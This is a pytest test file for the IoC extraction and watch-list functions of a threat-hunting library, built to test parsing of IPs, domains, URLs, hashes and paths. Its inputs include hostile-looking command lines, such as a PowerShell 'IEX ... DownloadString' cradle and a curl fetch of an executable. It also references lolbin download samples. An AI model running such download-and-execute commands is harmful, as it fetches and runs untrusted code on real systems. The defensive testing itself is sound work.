"""Tests for huntbook.iocs: extract, refang/defang, watch."""

from __future__ import annotations

import json
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from huntbook import iocs
from huntbook.errors import DataError


def items(text: str, **kw: object) -> list[tuple[str, str]]:
    out = iocs.extract(text, **kw)
    return list(zip(out["ioc_type"], out["value"], strict=True))


def values(text: str, typ: str) -> list[str]:
    return [v for t, v in items(text) if t == typ]


# --- each type: positive and negative --------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "typ", "expected"),
    [
        ("ping -n 1 192.168.1.20", "ipv4", ["192.168.1.20"]),
        ("dst=2606:4700::7 dport=22", "ipv6", ["2606:4700::7"]),
        ("AAAA 2001:DB8:0:0:0:0:2:1", "ipv6", ["2001:db8:0:0:0:0:2:1"]),
        ("nslookup Mail.Example.CO.UK 8.8.8.8", "dns", ["mail.example.co.uk"]),
        ("get https://www.example.com/a/b.php?id=1", "url", ["https://www.example.com/a/b.php?id=1"]),
        ("from=<Jane.Doe@Example.org>", "email", ["jane.doe@example.org"]),
        ("md5 " + "A" * 32, "md5", ["a" * 32]),
        ("sha1=" + "b" * 40, "sha1", ["b" * 40]),
        ("'" + "C" * 64 + "'", "sha256", ["c" * 64]),
        (
            r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer',
            "windows_path",
            [r"C:\Program Files\Google\Chrome\Application\chrome.exe"],
        ),
        (r"net use \\fileserver01\share /user:CONTOSO\jdoe", "windows_path", [r"\\fileserver01\share"]),
        (
            "CRON[1]: (root) CMD (/usr/bin/python3 /opt/app/run.py)",
            "linux_path",
            ["/usr/bin/python3", "/opt/app/run.py"],
        ),
        (
            r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v x',
            "registry_key",
            [r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"],
        ),
        ("patched cve-2021-44228 today", "cve", ["CVE-2021-44228"]),
    ],
)
def test_each_type_found(text: str, typ: str, expected: list[str]) -> None:
    assert values(text, typ) == expected


@pytest.mark.parametrize(
    ("text", "typ"),
    [
        ("Add-Type -AssemblyName 'System.Management.Automation, Version=4.0.0.0, Culture=neutral'", "ipv4"),
        ('"Mozilla/5.0 AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36"', "ipv4"),
        ("version 1.2.3.4.5 and 300.1.1.1", "ipv4"),
        ("May  1 00:00:23 web01 sshd[1]: ok", "ipv6"),
        ("mac=40:8d:72:1e:fa:58", "ipv6"),
        ("python setup.py install && ./deploy.sh", "dns"),
        ('att="invoice_1234.zip" report.pdf manage.py', "dns"),
        ("msgid=<a5192602e7be@mail.example.org>", "email"),
        ("h.open('GET', u) and powershell.exe -File x.ps1", "dns"),
        ("not a hash " + "a" * 33 + " nor " + "g" * 32, "md5"),
        (r"User=CONTOSO\jdoe", "windows_path"),
        ("text/html TCP_MISS/200 /c", "linux_path"),
        ("CVE-21-1", "cve"),
    ],
)
def test_each_type_rejects_look_alikes(text: str, typ: str) -> None:
    assert values(text, typ) == []


def test_msgid_domain_kept_as_dns_and_keyed_address_not_glued() -> None:
    text = "msgid=<a5192602e7be@mail.example.org> sender=jdoe@example.org relay=mail.example.org"
    assert values(text, "email") == ["jdoe@example.org"]
    assert "mail.example.org" in values(text, "dns")
    assert "example.org" in values(text, "dns")


def test_url_host_is_dns_or_ipv4_and_trailing_punctuation_is_dropped() -> None:
    text = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example.net/a.ps1'); curl http://45.77.12.3:8080/x.exe"
    got = items(text)
    assert ("url", "http://cdn.example.net/a.ps1") in got
    assert ("dns", "cdn.example.net") in got
    assert ("url", "http://45.77.12.3:8080/x.exe") in got
    assert ("ipv4", "45.77.12.3") in got


def test_url_encoded_url_in_query_is_decoded() -> None:
    got = items("GET https://redir.example.com/go?next=https%3A%2F%2Fzoom.us%2Flogin - HIER_DIRECT/1.2.3.4")
    assert ("url", "https://zoom.us/login") in got
    assert ("dns", "zoom.us") in got
    assert ("ipv4", "1.2.3.4") in got


def test_comma_separated_hashes_are_all_found() -> None:
    hashes = ["0a" * 20, "1b" * 20, "2c" * 20]
    assert values("indicators=" + ",".join(h.upper() for h in hashes), "sha1") == hashes


# --- defanged input and spans ----------------------------------------------------------------------
def test_defanged_forms_are_refanged_and_spans_point_into_the_original() -> None:
    text = (
        'ti_note="C2 at hxxp://evil[.]example[.]com/p[.]php resolves to 203[.]0[.]113[.]9; '
        'sender first[.]last[at]corp(.)example(dot)org, hxxps[:]//x[.]io/ a@b[.]net"'
    )
    out = iocs.extract(text)
    got = list(zip(out["ioc_type"], out["value"], strict=True))
    assert ("url", "http://evil.example.com/p.php") in got
    assert ("dns", "evil.example.com") in got
    assert ("ipv4", "203.0.113.9") in got
    assert ("email", "first.last@corp.example.org") in got
    assert ("url", "https://x.io/") in got
    assert ("email", "a@b.net") in got
    for _, row in out.iterrows():
        span = text[row["start"] : row["end"]]
        assert iocs.refang(span).lower() == row["value"].lower() or row["ioc_type"] == "dns"
        if row["ioc_type"] == "dns":
            assert iocs.refang(span).lower().endswith(row["value"])


def test_spans_are_character_offsets_in_non_ascii_text() -> None:
    text = "Grüße – siehe https://ex.example.de/ü and 10.0.0.1 😀 évil.example.com"
    out = iocs.extract(text)
    assert len(out) >= 4
    for _, row in out.iterrows():
        assert text[row["start"] : row["end"]].lower().endswith(row["value"].split("/")[-1].lower())
    ip = out[out["ioc_type"] == "ipv4"].iloc[0]
    assert text[ip["start"] : ip["end"]] == "10.0.0.1"


@pytest.mark.parametrize(
    ("defanged", "plain"),
    [
        ("hxxp://a[.]b[.]com", "http://a.b.com"),
        ("hXXps[:]//a(.)com", "https://a.com"),
        ("HXXP[://]A[.]COM", "HTTP://A.COM"),
        ("a[dot]b(dot)c", "a.b.c"),
        ("x[@]y[.]io x[at]y(at)z", "x@y.io x@y@z"),
        ("fxp://files[.]example[.]net", "ftp://files.example.net"),
    ],
)
def test_refang_forms(defanged: str, plain: str) -> None:
    assert iocs.refang(defanged) == plain


_label = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=12)
_domain = st.builds(
    lambda ls, tld: ".".join([*ls, tld]),
    st.lists(_label, min_size=1, max_size=3),
    st.sampled_from(["com", "net", "org", "io", "de", "co.uk"]),
)
_ipv4 = st.tuples(*[st.integers(0, 255)] * 4).map(lambda t: ".".join(map(str, t)))
_url = st.builds(
    lambda scheme, host, path: f"{scheme}://{host}/{path}",
    st.sampled_from(["http", "https", "ftp"]),
    st.one_of(_domain, _ipv4),
    st.text(alphabet="abcxyz019-_/.", max_size=20),
)
_email = st.builds(
    lambda user, dom: f"{user}@{dom}", st.text(alphabet="abcxyz019._-", min_size=1, max_size=12), _domain
)


@given(st.one_of(_domain, _ipv4, _url, _email))
def test_refang_undoes_defang(value: str) -> None:
    assert iocs.refang(iocs.defang(value)) == value


@settings(max_examples=60, deadline=None)
@given(_domain, _ipv4)
def test_defanged_items_are_found_with_spans(domain: str, ip: str) -> None:
    text = f"C2 {iocs.defang('http://' + domain + '/x')} at {iocs.defang(ip)};"
    out = iocs.extract(text)
    got = set(zip(out["ioc_type"], out["value"], strict=True))
    assert ("url", f"http://{domain}/x") in got
    assert ("dns", domain) in got
    assert ("ipv4", ip) in got
    row = out[out["ioc_type"] == "ipv4"].iloc[0]
    assert iocs.refang(text[row["start"] : row["end"]]) == ip


# --- inputs ---------------------------------------------------------------------------------------
def test_dataframe_input_all_text_columns_and_index_labels() -> None:
    df = pd.DataFrame(
        {
            "cmd": ["ping 10.0.0.1", None, "curl http://a.example.com/x"],
            "n": [1, 2, 3],
            "note": ["", "x@y.org", float("nan")],
        },
        index=["r1", "r2", "r3"],
    )
    out = iocs.extract(df)
    assert list(out.columns) == iocs.OUTPUT_COLUMNS
    assert set(out["column"]) == {"cmd", "note"}
    assert out[out["ioc_type"] == "ipv4"]["row"].tolist() == ["r1"]
    assert out[out["ioc_type"] == "email"]["row"].tolist() == ["r2"]
    assert out[out["ioc_type"] == "url"][["row", "column"]].values.tolist() == [["r3", "cmd"]]
    assert out["row"].tolist() == sorted(out["row"].tolist())  # rows in input order


def test_list_series_str_and_bytes_inputs() -> None:
    lst = iocs.extract(["nothing", "ping 10.0.0.1"])
    assert lst[["row", "column", "value"]].values.tolist() == [[1, None, "10.0.0.1"]]
    ser = iocs.extract(pd.Series(["a", "ping 10.0.0.2"], index=[10, 20], name="CommandLine"))
    assert ser[["row", "column", "value"]].values.tolist() == [[20, "CommandLine", "10.0.0.2"]]
    one = iocs.extract("ping 10.0.0.3")
    assert one[["row", "start", "end"]].values.tolist() == [[0, 5, 13]]
    raw = iocs.extract(b"ping 10.0.0.4 \xff\xfe caf\xc3\xa9 see example.com")
    assert raw["value"].tolist() == ["10.0.0.4", "example.com"]
    decoded = b"ping 10.0.0.4 \xff\xfe caf\xc3\xa9 see example.com".decode("utf-8", "replace")
    assert decoded[raw["start"].iloc[1] : raw["end"].iloc[1]] == "example.com"


def test_missing_column_names_it_and_lists_the_columns() -> None:
    df = pd.DataFrame({"CommandLine": ["x"], "Host": ["y"]})
    with pytest.raises(DataError) as err:
        iocs.extract(df, columns=["CommandLine", "Cmd"])
    assert err.value.where == "Cmd"
    assert "CommandLine" in str(err.value) and "Host" in str(err.value)


def test_unknown_type_and_bad_extra_regex_are_clear_errors() -> None:
    with pytest.raises(DataError, match="unknown IoC type 'ipv5'"):
        iocs.extract("x", ioc_types=["ipv5"])
    with pytest.raises(DataError, match="invalid regular expression") as err:
        iocs.extract("x", extra_types={"ticket": "INC-(\\d+"})
    assert "ticket" in (err.value.where or "")
    with pytest.raises(DataError, match="built-in"):
        iocs.extract("x", extra_types={"dns": "x"})


def test_ioc_types_filter_and_aliases() -> None:
    text = "ping 10.0.0.1 then http://a.example.com/ and " + "d" * 32
    assert set(iocs.extract(text, ioc_types=["ipv4"])["ioc_type"]) == {"ipv4"}
    assert set(iocs.extract(text, ioc_types="md5_hash")["ioc_type"]) == {"md5"}
    assert set(iocs.extract(text, ioc_types=["url", "dns"])["ioc_type"]) == {"url", "dns"}


def test_extra_types_are_added() -> None:
    text = "ticket INC-20417 closed; see INC-9 and http://x.example.com/"
    out = iocs.extract(text, extra_types={"ticket": r"INC-\d{3,}"})
    tickets = out[out["ioc_type"] == "ticket"]
    assert tickets["value"].tolist() == ["INC-20417"]
    assert text[tickets.iloc[0]["start"] : tickets.iloc[0]["end"]] == "INC-20417"
    assert "url" in set(out["ioc_type"])
    only = iocs.extract(text, ioc_types=["ticket"], extra_types={"ticket": r"INC-\d+"})
    assert only["value"].tolist() == ["INC-20417", "INC-9"]


def test_missing_invalid_and_odd_cells_never_crash_the_batch() -> None:
    cells = [
        None,
        float("nan"),
        pd.NA,
        b"\xff\xfe\x00 1.1.1.1",
        "\ud800 lone surrogate 2.2.2.2",
        42,
        "3.3.3.3",
    ]
    out = iocs.extract(pd.Series(cells, dtype=object))
    assert out[["row", "value"]].values.tolist() == [[3, "1.1.1.1"], [4, "2.2.2.2"], [6, "3.3.3.3"]]
    text = "\ud800 lone surrogate 2.2.2.2"
    row = out[out["row"] == 4].iloc[0]
    assert text[row["start"] : row["end"]] == "2.2.2.2"
    assert iocs.extract([]).empty and list(iocs.extract([]).columns) == iocs.OUTPUT_COLUMNS
    assert iocs.extract([None, math.nan]).empty


def test_input_is_not_mutated() -> None:
    df = pd.DataFrame({"cmd": ["curl hxxp://evil[.]com/x", None, "ping 10.0.0.1"], "other": [1, 2, 3]})
    before = df.copy(deep=True)
    iocs.extract(df, columns=["cmd"])
    iocs.watch(df, ["evil.com"], columns="cmd")
    pd.testing.assert_frame_equal(df, before)


def test_megabyte_long_field() -> None:
    filler = "x " * 500_000
    text = filler + "http://deep.example.com/p " + filler + " 198.51.100.7"
    out = iocs.extract(pd.DataFrame({"c": ["short 10.0.0.1", text]}))
    got = set(zip(out["row"], out["ioc_type"], out["value"], strict=True))
    assert {
        (0, "ipv4", "10.0.0.1"),
        (1, "url", "http://deep.example.com/p"),
        (1, "ipv4", "198.51.100.7"),
    } <= got
    row = out[out["value"] == "198.51.100.7"].iloc[0]
    assert text[row["start"] : row["end"]] == "198.51.100.7"


@pytest.mark.parametrize(
    "text",
    [
        "1." * 500_000,
        "1234567890." * 95_000,
        "a." * 500_000,
        "([{" * 170_000 + "}])" * 170_000,
        "\\" * 1_000_000,
        "/" * 1_000_000,
        "a:" * 500_000,
        ":" * 1_000_000,
        "x.com%" * 170_000,
        "C:\\" + "a b " * 250_000,
    ],
)
def test_adversarial_megabyte_inputs_complete_with_correct_results(text: str) -> None:
    out = iocs.extract(text + " 192.0.2.1")
    assert ("ipv4", "192.0.2.1") in set(zip(out["ioc_type"], out["value"], strict=True))


def test_large_input_scanned_in_two_processes_gives_the_same_result(monkeypatch: pytest.MonkeyPatch) -> None:
    lines = [
        f"ping 10.0.{i % 256}.{i % 200 + 1} http://h{i}.example.com/x ü C:\\Temp\\a{i}.exe"
        for i in range(3000)
    ]
    monkeypatch.setenv("HUNTBOOK_IOCS_PROCESSES", "0")
    extra = {"program": r"a[0-9]+\.exe"}
    single = iocs.extract(lines, extra_types=extra)
    monkeypatch.setenv("HUNTBOOK_IOCS_PROCESSES", "1")
    monkeypatch.setattr(iocs, "PARALLEL_MIN_BYTES", 1000)
    monkeypatch.setattr(iocs, "_parallel_ok", lambda size: size >= 1000)  # also on a one-core runner
    double = iocs.extract(lines, extra_types=extra)
    pd.testing.assert_frame_equal(single, double)
    assert len(single) == 5 * len(lines)
    for _, row in double.sample(200, random_state=1).iterrows():
        assert lines[row["row"]][row["start"] : row["end"]].lower() == row["value"].lower()
    last = single.iloc[-1]
    assert lines[last["row"]][last["start"] : last["end"]] == last["value"]


# --- watch ----------------------------------------------------------------------------------------
def test_watch_matches_many_indicators_with_word_boundaries() -> None:
    lines = ["conn to SUB.EVIL.com ok", "notevil.com is fine", "ping 203.0.113.9", "x 1203.0.113.99", None]
    indicators = ["evil.com", "203.0.113.9"] + [f"decoy{i}.example.net" for i in range(3000)]
    out = iocs.watch(lines, indicators)
    assert list(out.columns) == iocs.WATCH_COLUMNS
    assert out[["row", "indicator"]].values.tolist() == [[0, "evil.com"], [2, "203.0.113.9"]]
    first = out.iloc[0]
    assert lines[0][first["start"] : first["end"]] == "EVIL.com"
    assert iocs.watch(lines, ["evil.com"], case_sensitive=True).empty


def test_watch_finds_defanged_spellings_and_defanged_indicators() -> None:
    df = pd.DataFrame({"note": ["c2 at evil[.]com and hxxp://bad.example.org/x", "ok"]})
    out = iocs.watch(df, ["evil.com", "http://bad.example.org/x", "bad[.]example[.]org"], columns=["note"])
    assert set(out["indicator"]) == {"evil.com", "http://bad.example.org/x", "bad[.]example[.]org"}
    assert set(out["column"]) == {"note"}
    assert iocs.watch(df, []).empty


# --- real data ------------------------------------------------------------------------------------
def _evtx_command_lines(path: Path) -> list[str]:
    evtx = pytest.importorskip("evtx")
    lines = []
    for record in evtx.PyEvtxParser(str(path)).records_json():
        data = json.loads(record["data"]).get("Event", {}).get("EventData") or {}
        if isinstance(data, dict) and isinstance(data.get("CommandLine"), str):
            lines.append(data["CommandLine"])
    return lines


@pytest.mark.parametrize(
    ("name", "url", "host"),
    [
        (
            "Execution/exec_wmic_xsl_internet_sysmon_3_1_11.evtx",
            "https://a.uguu.se/x50IGVBRfr55_test.xsl",
            "a.uguu.se",
        ),
        (
            "Execution/exec_sysmon_1_lolbin_renamed_regsvr32_scrobj.evtx",
            "http://pastebin.com/raw/H4A4iDTA",
            "pastebin.com",
        ),
        (
            "Execution/sysmon_11_1_lolbas_downldr_desktopimgdownldr.evtx",
            "https://a.uguu.se/Hv0bgvgHGNeH_Bin.7z",
            "a.uguu.se",
        ),
    ],
)
def test_real_evtx_attack_command_lines(shared_data: Path, name: str, url: str, host: str) -> None:
    path = shared_data / "evtx-attack-samples" / name
    if not path.is_file():
        pytest.skip(f"{path} not present")
    lines = _evtx_command_lines(path)
    holding = [i for i, line in enumerate(lines) if url in line]
    assert holding, f"{url} is not in any CommandLine of {name}"
    out = iocs.extract(pd.DataFrame({"CommandLine": lines}), columns=["CommandLine"])
    for i in holding:
        found = set(zip(out[out["row"] == i]["ioc_type"], out[out["row"] == i]["value"], strict=True))
        assert ("url", url) in found and ("dns", host) in found
        span = out[(out["row"] == i) & (out["value"] == url)].iloc[0]
        assert lines[i][span["start"] : span["end"]] == url


def test_real_webshell_access_log_client_addresses(shared_data: Path) -> None:
    path = (
        shared_data
        / "evtx-attack-samples"
        / "Command and Control"
        / "web_attack_and_isp_webshell_localhost_access_log.txt"
    )
    if not path.is_file():
        pytest.skip(f"{path} not present")
    lines = path.read_bytes().decode("utf-8", "replace").splitlines()
    firsts = [line.split()[0] for line in lines if line and line.split()[0].count(".") == 3]
    expected = {f for f in firsts if all(p.isdigit() and int(p) < 256 for p in f.split("."))}
    assert expected, "no client addresses at the start of the log lines"
    out = iocs.extract(lines, ioc_types=["ipv4"])
    assert expected <= set(out["value"])


def test_a_dead_helper_process_is_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
    lines = [f"beacon http://c{i}.example.org/p 198.51.100.{i % 250 + 1}" for i in range(2000)]
    monkeypatch.setenv("HUNTBOOK_IOCS_PROCESSES", "1")
    monkeypatch.setattr(iocs, "_parallel_ok", lambda size: True)
    first = iocs.extract(lines)
    helper = iocs._Helper._instance
    assert helper is not None
    helper.proc.kill()
    helper.proc.wait()
    again = iocs.extract(lines)
    pd.testing.assert_frame_equal(first, again)
    assert len(first) == 3 * len(lines)
